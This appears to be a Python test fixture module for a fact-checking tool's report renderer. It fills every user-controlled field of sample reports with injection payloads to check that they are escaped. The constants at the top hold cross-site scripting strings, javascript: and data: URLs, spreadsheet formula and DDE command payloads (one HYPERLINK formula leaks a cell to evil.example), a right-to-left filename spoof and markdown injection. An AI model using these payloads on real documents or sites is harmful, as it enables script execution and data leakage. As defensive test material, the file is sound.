"""Reports built by hand for the renderer tests, seeded with hostile text in every field a user controls."""
from __future__ import annotations

import re
from datetime import datetime, timezone
from decimal import Decimal
from pathlib import Path

from fact_review.model import AnalysedArticle, Article, CaseAnalysis, Check, CheckedClaim, Claim, Match, Span
from fact_review.reports.data import (
    Discrepancy,
    DiscrepancyClaim,
    Figure,
    HistoryEvent,
    MatchedStatement,
    Quote,
    RatingLabel,
    ReportArticle,
    ReportData,
    ReportEntry,
    Scale,
    Verdict,
)
from fact_review.sentences import split_sentences
from fact_review.store import ReviewService, open_service

SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="alert(1)">'
CLOSE_TITLE = "</title><script>alert(2)</script>"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
PLUS_CMD = "+cmd|' /C calc'!A0"
MINUS_SUM = "-2+3"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_FORMULA = "\t=1+1"
CR_FORMULA = "\r=1+2"
RTL = "report\u202egnp.exe"
MD_LINK = "[click here](javascript:alert(3))"
MD_IMAGE = "![pixel](http://evil.example/p.png)"
MD_HEADING = "# Heading injected"
JS_URL = "javascript:alert(document.cookie)"
DATA_URL = "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
TAB_JS_URL = "java\tscript:alert(4)"
GOOD_URL = "https://example.org/evidence?id=7&lang=en"

TEXT_PAYLOADS = (SCRIPT, IMG, CLOSE_TITLE, HYPERLINK, PLUS_CMD, MINUS_SUM, AT_SUM, TAB_FORMULA, CR_FORMULA,
                 RTL, MD_LINK, MD_IMAGE, MD_HEADING)
FORMULA_PAYLOADS = (HYPERLINK, PLUS_CMD, MINUS_SUM, AT_SUM, TAB_FORMULA, CR_FORMULA)
BAD_URLS = (JS_URL, DATA_URL, TAB_JS_URL)

SCALE = Scale.of([
    RatingLabel("False", 1), RatingLabel("Mostly false", 2), RatingLabel("Half true", 3),
    RatingLabel("Mostly true", 4), RatingLabel("True", 5), RatingLabel("Unverifiable", None),
])
T0 = datetime(2025, 5, 26, 9, 30, tzinfo=timezone.utc)


def verdict(label: str, *, note=None, evidence_url=None, reviewer=None, minutes: int = 0) -> Verdict:
    rating = next(item.rating for item in SCALE.labels if item.label == label)
    at = T0.replace(minute=30 + minutes)
    return Verdict(label, rating, note, evidence_url, reviewer, at, at)


def hostile_report(*, with_history: bool = True) -> ReportData:
    """Two sources and five claims; every user-controlled string carries a payload."""
    first = ReportArticle(1, 0, SCRIPT + " City council " + CLOSE_TITLE, IMG, JS_URL, HYPERLINK,
                          "2025-05-25T08:00:00+00:00")
    second = ReportArticle(2, 1, MD_LINK + " budget story", PLUS_CMD, DATA_URL, RTL, "2025-05-24")
    third = ReportArticle(3, 2, "Plain title", "Plain Outlet", "https://news.example/story", None, None)

    budget = Figure("$12.5 million", "money", Decimal("12.5E6"), "USD", None, None)
    budget_other = Figure("$14 million", "money", Decimal("14000000"), "USD")
    drop = Figure("-2 percent", "percent", Decimal("-2"), None, None)
    people = Figure("almost 300 people", "number", Decimal("300"), None, "people", "almost",
                    Decimal("270"), Decimal("300"))
    day = Figure("25 May", "date", date="2025-05-25")

    entries = (
        ReportEntry(
            101, first, Quote(SCRIPT + " the council said ", "$12.5 million", " " + IMG), "The budget was $12.5 million.",
            budget, in_conflict=True,
            matches=(MatchedStatement(second, "The budget was " + HYPERLINK + " $14 million.", 0.91, "conflict",
                                      "confirmed", (budget_other,)),),
            verdict=verdict("Mostly false", note=HYPERLINK + " " + SCRIPT, evidence_url=JS_URL, reviewer=AT_SUM),
            history=(HistoryEvent(T0, PLUS_CMD, None, verdict("False", note=MD_HEADING, reviewer=PLUS_CMD)),
                     HistoryEvent(T0.replace(minute=40), AT_SUM, verdict("False", reviewer=PLUS_CMD),
                                  verdict("Mostly false", note=HYPERLINK, reviewer=AT_SUM))),
        ),
        ReportEntry(
            102, second, Quote(MD_LINK + " ", "$14 million", " " + MD_IMAGE), "It cost $14 million.", budget_other,
            in_conflict=True,
            verdict=verdict("True", note=MINUS_SUM + " " + TAB_FORMULA, evidence_url=DATA_URL, reviewer=RTL, minutes=1),
        ),
        ReportEntry(
            103, second, Quote(CR_FORMULA, "-2 percent", CLOSE_TITLE), "Turnout fell -2 percent.", drop,
            verdict=verdict("Unverifiable", note=MD_IMAGE + " " + MD_HEADING, evidence_url=TAB_JS_URL,
                            reviewer=TAB_FORMULA, minutes=2),
        ),
        ReportEntry(
            104, third, Quote("Police said ", "almost 300 people", " attended."), "Police said almost 300 people attended.",
            people, verdict=verdict("Half true", note="Counted from photos.", evidence_url=GOOD_URL,
                                    reviewer="Ana Pérez", minutes=3),
        ),
        ReportEntry(105, third, Quote("On ", "25 May", " the vote"), "On 25 May the vote was held.", day),
    )
    discrepancy = Discrepancy("value", "The sources disagree on the budget: " + SCRIPT, (
        DiscrepancyClaim(101, first, budget, entries[0].verdict),
        DiscrepancyClaim(102, second, budget_other, entries[1].verdict),
    ))
    return ReportData.build("council-budget", SCALE, (first, second, third), entries, (discrepancy,),
                            title=SCRIPT + " Council " + CLOSE_TITLE, generated_at=T0, with_history=with_history)


FIRST = "Council approves budget\nThe council approved a budget of 12 million on Monday. About 300 people came."
SECOND = "Budget passed\nThe council passed a budget of 14 million. Some 300 residents came to the hall."


def _analyse(article: Article) -> AnalysedArticle:
    """Every run of digits is a number claim (the real extractor is tested elsewhere)."""
    claims = tuple(Claim(m.start(), m.end(), m.group(), "number", Decimal(m.group()))
                   for m in re.finditer(r"\d+", article.text))
    return AnalysedArticle(article, tuple(split_sentences(article.text)), claims)


def _match(articles) -> CaseAnalysis:
    """The two budget sentences match and their figures conflict."""
    if len(articles) < 2:
        return CaseAnalysis(tuple(articles))
    spans, budgets = [], []
    for index, analysed in enumerate(articles):
        text = analysed.article.text
        sentence = next(s for s in analysed.sentences if "budget of" in text[s.start:s.end])
        spans.append(Span(index, sentence.start, sentence.end))
        budgets.append(CheckedClaim(index, next(c for c in analysed.claims if sentence.start <= c.start < sentence.end)))
    return CaseAnalysis(tuple(articles), (Match(spans[0], spans[1], 0.82, "confident", "conflict"),),
                        (Check("value", "conflict", tuple(budgets), "12 million against 14 million"),))


def open_seeded_database(path: Path) -> ReviewService:
    """A database with the case "budget": two small articles, four number claims, one discrepancy."""
    service = open_service(path, analyse=_analyse, match=_match)
    case = service.create_case("budget")
    service.import_articles(case.id, [
        Article(FIRST, title="Council approves budget", outlet="Daily One", url="https://one.example/a",
                author="Kim Lee", published="2025-05-25").with_text(FIRST),
        Article(SECOND, title="Budget passed", outlet="Two Times", url="javascript:alert(1)",
                published="2025-05-24T18:00:00+00:00").with_text(SECOND),
    ])
    return service
